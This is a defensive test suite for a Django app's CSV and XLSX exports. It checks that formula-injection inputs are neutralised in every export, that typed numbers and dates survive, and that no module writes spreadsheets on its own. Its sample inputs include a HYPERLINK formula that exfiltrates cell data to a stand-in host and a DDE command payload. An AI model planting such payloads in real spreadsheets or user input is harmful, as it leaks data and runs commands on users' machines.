"""Formula injection (CSV injection): a value typed into the app that starts with "=", "+",
"-", "@", a tab or a carriage return must never reach a spreadsheet as a formula. Every
export writes through traffick_cm.tables: CSV cells get a leading "'", XLSX cells are
string cells (never formulas) with the quote-prefix style. Numbers and dates stay typed,
and the imports read a round-tripped value back as it was.

One test per export the app has (the case export, the sessions export, the report files,
the CTDC dataset), and a guard that fails when a module writes CSV or XLSX by itself."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.roles import Role
from tests import factories
from traffick_cm import tables
from trainings.services import sessions as training_sessions

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What an attacker types: a formula that sends the neighbouring cells away, and the other
# starting characters spreadsheets take as a formula.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def client():
    return Client(headers={"accept-language": "en"})


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def assert_csv_neutralised(content: bytes, values: list[str]) -> None:
    cells = _csv_cells(content)
    dangerous = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert dangerous == [], f"live formulas in the CSV: {dangerous}"
    for value in values:
        # The value is there, shown as text, not dropped.
        assert "'" + value in cells, f"{value!r} is missing from the CSV"


def assert_xlsx_neutralised(content: bytes, values: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            assert b"<f>" not in archive.read(name), f"a formula element in {name}"
    workbook = load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.data_type == "s"
                        assert cell.quotePrefix, f"{cell.value!r} without the quote prefix"
    for value in values:
        # XML reads a carriage return back as a line feed: still text, still not a formula.
        assert value.replace("\r", "\n") in texts, f"{value!r} is missing from the workbook"


# The writer itself


def test_csv_cells_starting_like_a_formula_get_a_quote():
    content = tables.write_table([["value"], *[[attack] for attack in ATTACKS]], "csv")

    assert_csv_neutralised(content, ATTACKS)


def test_xlsx_cells_starting_like_a_formula_are_text_with_the_quote_prefix():
    content = tables.write_table([["value"], *[[attack] for attack in ATTACKS]], "xlsx")

    assert_xlsx_neutralised(content, ATTACKS)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    # The value itself is unchanged in a workbook (but for XML's line ends): the style says
    # "text".
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        attack.replace("\r", "\n") for attack in ATTACKS
    ]


def test_numbers_and_dates_stay_typed():
    moment = timezone.make_aware(datetime(2026, 3, 1, 9, 30))  # noqa: DTZ001 - local time
    row = [-5, 2.5, Decimal("7.25"), date(2026, 3, 1), moment, None, "#N/A", "ok"]

    csv_row = _csv_cells(tables.write_table([row], "csv"))
    sheet = load_workbook(io.BytesIO(tables.write_table([row], "xlsx"))).worksheets[0]
    cells = next(sheet.iter_rows())

    assert csv_row == ["-5", "2.5", "7.25", "2026-03-01", "2026-03-01 09:30:00", "", "#N/A", "ok"]
    assert [cell.data_type for cell in cells[:5]] == ["n", "n", "n", "d", "d"]
    assert (cells[0].value, cells[3].value.date()) == (-5, date(2026, 3, 1))
    # Local time, without a zone (Excel has none).
    assert cells[4].value == datetime(2026, 3, 1, 9, 30)  # noqa: DTZ001
    # "#N/A" typed by someone is their text, not a spreadsheet error.
    assert (cells[6].value, cells[6].data_type) == ("#N/A", "s")


def test_control_characters_an_xlsx_cannot_hold_are_dropped_not_a_crash():
    content = tables.write_table([["a\x01b\x0bc"]], "xlsx")

    assert load_workbook(io.BytesIO(content)).worksheets[0]["A1"].value == "abc"


def test_the_safe_csv_writer_neutralises_every_row():
    output = io.StringIO()

    tables.csv_writer(output).writerows([["name"], ["=1+1"], ["@x"]])

    assert output.getvalue().splitlines() == ["name", "'=1+1", "'@x"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_round_tripped_file_reads_back_the_values_it_was_written_from(fmt):
    header = ["value", "other"]
    content = tables.write_table([header, *[[attack, "'quoted"] for attack in ATTACKS]], fmt)

    read_header, rows = tables.read_table(f"file.{fmt}", io.BytesIO(content))

    assert read_header == header
    # Surrounding whitespace is trimmed on import, as for every cell.
    assert [row["value"] for row in rows] == [attack.strip() for attack in ATTACKS]
    # A quote before anything else is the person's own: kept.
    assert {row["other"] for row in rows} == {"'quoted"}


def test_the_import_takes_off_one_quote_only():
    _header, rows = tables.read_table("file.csv", io.BytesIO(b"value\n''=1+1\n'-3\n"))

    assert [row["value"] for row in rows] == ["''=1+1", "-3"]


# Every export of the app


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_case_export_neutralises_formulas(client, users, fmt):
    caseworker = users[Role.CASEWORKER]
    case = factories.case(
        caseworker=caseworker,
        first_name=ATTACKS[0],
        last_name=ATTACKS[3],
        phone="+236 75 00 00 00",
        address=ATTACKS[2],
        person_data={"identity_documents": ATTACKS[4], "middle_name": ATTACKS[5]},
    )
    client.force_login(caseworker)

    response = client.get(reverse("cases:case_export"), {"case": [case.pk], "format": fmt})

    assert response.status_code == 200
    expected = [ATTACKS[0], ATTACKS[3], "+236 75 00 00 00", ATTACKS[2], ATTACKS[4], ATTACKS[5]]
    if fmt == "csv":
        assert_csv_neutralised(response.content, expected)
    else:
        assert_xlsx_neutralised(response.content, expected)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_sessions_export_neutralises_formulas(client, users, org, fmt):
    programme = users[Role.PROGRAMME]
    partner = factories.organisation(name=ATTACKS[1], acronym="")
    session = training_sessions.session_record(
        actor=programme,
        organiser=org,
        title=ATTACKS[0],
        session_type="training",
        start_date=date(2026, 3, 10),
        end_date=date(2026, 3, 11),
        country="CF",
        locality=ATTACKS[2],
        audiences=["police"],
        notes=ATTACKS[3],
        participants_female=3,
    )
    session.partners.set([partner])
    client.force_login(programme)

    response = client.get(reverse("trainings:session_export"), {"format": fmt})

    assert response.status_code == 200
    expected = [ATTACKS[0], ATTACKS[1], ATTACKS[2], ATTACKS[3]]
    if fmt == "csv":
        assert_csv_neutralised(response.content, expected)
    else:
        assert_xlsx_neutralised(response.content, expected)
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        # Counts and dates stay typed.
        row = list(sheet[2])
        assert row[2].data_type == "d"
        assert row[12].value == 3


def test_the_report_files_neutralise_formulas(org):
    """The XLSX of a report run (reports.builders.render_xlsx, owned elsewhere): fails
    until it makes its workbook with traffick_cm.tables.xlsx_workbook()."""
    from reports import builders
    from reports.models import Indicator

    project = factories.project(organisations=[org], code="CF-TIP-2026")
    Indicator.objects.create(
        project=project, code="1.1", name=ATTACKS[0], unit=ATTACKS[3], target=10
    )
    data = builders.build("donor", {"project": project.code}, date(2026, 1, 1), date(2026, 3, 31))

    assert_xlsx_neutralised(builders.render_xlsx(data), [ATTACKS[0], ATTACKS[3]])


def test_the_ctdc_dataset_neutralises_formulas(monkeypatch, db):
    """The CTDC CSV (reports.ctdc.export, owned elsewhere; the download and the command
    both write through it): its cells are codes today, but nothing in the writer stops a
    value from being live. Fails until it writes with traffick_cm.tables.csv_writer."""
    from reports import ctdc

    record = (2026, ATTACKS[0], "24-26", "Adult", "CF", "CF", 1, 1, 0, "Familial")
    monkeypatch.setattr(ctdc, "records", lambda *args, **kwargs: iter([record] * 11))
    output = io.StringIO()

    ctdc.export(output, k=11)

    assert_csv_neutralised(output.getvalue().encode(), [ATTACKS[0]])


# Nothing writes a spreadsheet by itself

WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
# Modules that may write CSV or XLSX without traffick_cm.tables, and why.
EXEMPT = {
    # The writer itself.
    "traffick_cm/tables.py",
    # A synthetic import file for the benchmark, generated data only, never downloaded.
    "bench/management/commands/benchmark.py",
    "bench/generate.py",
}


def test_every_csv_or_xlsx_export_writes_through_the_safe_writer():
    skip = {".venv", ".tools", "tests", "migrations", "node_modules", "static", ".git"}
    writers = set()
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if skip.intersection(relative.parts):
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            writers.add(relative.as_posix())

    assert writers - EXEMPT == set(), (
        "these modules write CSV or XLSX themselves: use traffick_cm.tables "
        "(write_table, xlsx_workbook, csv_writer or xlsx_append)"
    )
